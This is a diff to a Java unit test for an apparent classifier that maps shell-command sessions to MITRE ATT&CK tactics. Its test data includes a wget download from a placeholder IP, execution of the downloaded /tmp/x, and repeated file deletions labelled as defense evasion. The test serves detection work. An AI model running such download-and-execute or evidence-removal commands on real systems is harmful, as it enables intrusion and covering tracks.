@@ -176,6 +176,7 @@ class LabelMappingTest {
     TaggedStatement brought = statement("wget http://192.0.2.7/x ;", "TA0011 T1105");
     assertThat(predict(brought, statement("A=1 /tmp/x ;"))).containsExactly(EXECUTION, EXECUTION);
     assertThat(predict(brought, statement("A=/tmp/x ;"))).containsExactly(HARMLESS, HARMLESS);
+    assertThat(predict(brought, statement("/tmp/x=1 -d ;"))).containsExactly(EXECUTION, EXECUTION);
   }
 
   @Test
@@ -214,8 +215,10 @@ class LabelMappingTest {
   void manyRemovalsInARowTakeNoLongerThanAnythingElse() {
     List<TaggedStatement> session = new java.util.ArrayList<>();
     for (int i = 0; i < 20_000; i++) {
-      session.add(statement("rm x ;", "TA0005 T1070.004"));
+      session.add(statement("rm x" + i + " ;", "TA0005 T1070.004"));
     }
     assertThat(LabelMapping.predict(session)).hasSize(20_000).containsOnly(DEFENSE_EVASION);
+    session.add(statement("a ;", "TA0040 T1489"));
+    assertThat(LabelMapping.predict(session)).hasSize(20_001).containsOnly(IMPACT);
   }
 }
